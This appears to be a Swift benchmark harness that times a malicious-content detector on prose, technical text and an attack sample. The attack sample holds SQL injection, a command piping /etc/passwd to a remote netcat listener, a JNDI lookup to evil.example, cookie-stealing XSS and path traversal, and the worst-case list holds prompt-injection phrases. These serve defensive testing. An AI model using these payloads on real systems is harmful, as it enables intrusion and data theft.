import Foundation
import SwiftletSanitize

// `judge`: base64 lines in, verdict lines out, for a look at rows.
if CommandLine.arguments.dropFirst().first == "judge" {
    while let line = readLine() {
        let bytes = Data(base64Encoded: line).map { [UInt8]($0) } ?? []
        let content = detectMaliciousContent(String(decoding: bytes, as: UTF8.self))
        let scores = content.scores.map { "\($0.key.rawValue)=\($0.value)" }.sorted().joined(separator: ",")
        print(content.reason?.rawValue ?? "-", content.score, scores, separator: "\t")
    }
    exit(0)
}

let prose = """
    It was a quiet evening, and nobody said much about it. "Do you have time tomorrow?" she asked, and he said that he hadn't looked; there's
    always something on a Tuesday (the market, for one). We'll see how it goes - I don't mind either way, and the others won't be back until 9.

    """
let technical = """
    Run `swift build -c release` first, then set DATABASE_URL=postgres://localhost:5432/app and start the host with --port 8080. The handler reads
    `request.body` (see https://example.com/docs?id=42&lang=en#top) and answers {"ok": true, "count": 3}; if (count == 0 || !ok) { retry(2) }.
    ```swift\nlet rows = try await client.query("SELECT id, name FROM users WHERE id = \\(id)")\nfor row in rows { print(row.id, row.name) }\n```

    """
let attack = """
    1' UNION SELECT username, password FROM users WHERE '1'='1'-- ; cat /etc/passwd | nc 10.0.0.1 4444 <script>alert(document.cookie)</script>
    {{7*7}} ${jndi:ldap://evil.example/a} ../../../../etc/passwd %3Cimg src=x onerror=alert(1)%3E &#60;svg onload=alert(1)&#62;

    """

func filled(_ text: String, _ length: Int) -> String {
    String(decoding: String(repeating: text, count: length / text.utf8.count + 1).utf8.prefix(length), as: UTF8.self)
}

/// Nanoseconds of this process a call, the best of several rounds: other work on the machine only ever makes it slower.
func time(_ calls: Int, rounds: Int = 9, _ work: () -> Void) -> Double {
    func now() -> Double {
        var time = timespec()
        clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &time)
        return Double(time.tv_sec) * 1e9 + Double(time.tv_nsec)
    }
    var best = Double.infinity
    for _ in 0..<rounds {
        let start = now()
        for _ in 0..<calls { work() }
        best = min(best, (now() - start) / Double(calls))
    }
    return best
}

// `spin TEXT`: one input over and over, for a profiler.
if CommandLine.arguments.count > 2, CommandLine.arguments[1] == "spin" {
    let texts = ["prose": prose, "technical": technical, "attack": attack]
    let input = filled(texts[CommandLine.arguments[2]] ?? CommandLine.arguments[2], 4_096)
    var sink = 0
    for _ in 0..<20_000 { sink &+= detectMaliciousContent(input).score }
    print(sink)
    exit(0)
}

var sink = 0
print("text                 bytes        ns a call     ns a KB")
for (name, text) in [("prose", prose), ("technical", technical), ("attack", attack)] {
    for length in [64, 1_024, 4_096] {
        let input = filled(text, length)
        let cost = time(4_000_000 / max(length, 400)) { sink &+= detectMaliciousContent(input).score }
        print(
            "\(name.padding(toLength: 16, withPad: " ", startingAt: 0)) \(String(format: "%9d %16.0f %11.0f", input.utf8.count, cost, cost * 1024 / Double(length)))"
        )
    }
}

print("\n1 MB of the worst known (bar: 20 ms)")
let worst = [
    "<", "<a ", "<a on=", "'", "'\"", "' or ", "(' ", "'=", "\"", "`", "` ", "/*", "(", "((", ")", "union ", "union(", "select ",
    "or 1", "or 1=",
    "--", "-- ", "%", "%0a", "%41", "&", "&a", "&#", "&#9;", "&lt;",
    "\\u", "\\u0041", "+", "../", "..%", "/a", "/etc/", "{", "{{", "{{a", "${", "{,", "<!", "<!doctype ", "<![cdata[",
    "javascript:", ":", "a:", ";", "; cat ", "| a ", "|a", "$(", "@", "1", "0x1",
    "a", "a ", "a'", "é", "忽", "忽略", "\n", "a\n", "for %", "%%", "% ", "ignore ", "ignore a rules ", "style=", "<a style=", "[",
    "/[a]", "\u{2019}", "aGVsbG8gd29ybGQsIGhlbGxvIHdvcmxk ", "a-", "sleep(", "char(1,",
]
var slowest = (0.0, "")
for unit in worst {
    let input = filled(unit, 1 << 20)
    let cost = time(1, rounds: 7) { sink &+= detectMaliciousContent(input, in: .prompt).score } / 1e6
    if cost > 6 {
        print("\(unit.debugDescription.padding(toLength: 24, withPad: " ", startingAt: 0)) \(String(format: "%6.1f ms", cost))")
    }
    if cost > slowest.0 { slowest = (cost, unit) }
}
print("slowest: \(slowest.1.debugDescription) \(String(format: "%.1f ms", slowest.0))")
for (name, text) in [("prose", prose), ("technical", technical), ("attack", attack)] {
    let input = filled(text, 1 << 20)
    print(name, String(format: "%.1f ms", time(1, rounds: 7) { sink &+= detectMaliciousContent(input, in: .prompt).score } / 1e6))
}
if sink == 42 { print() }
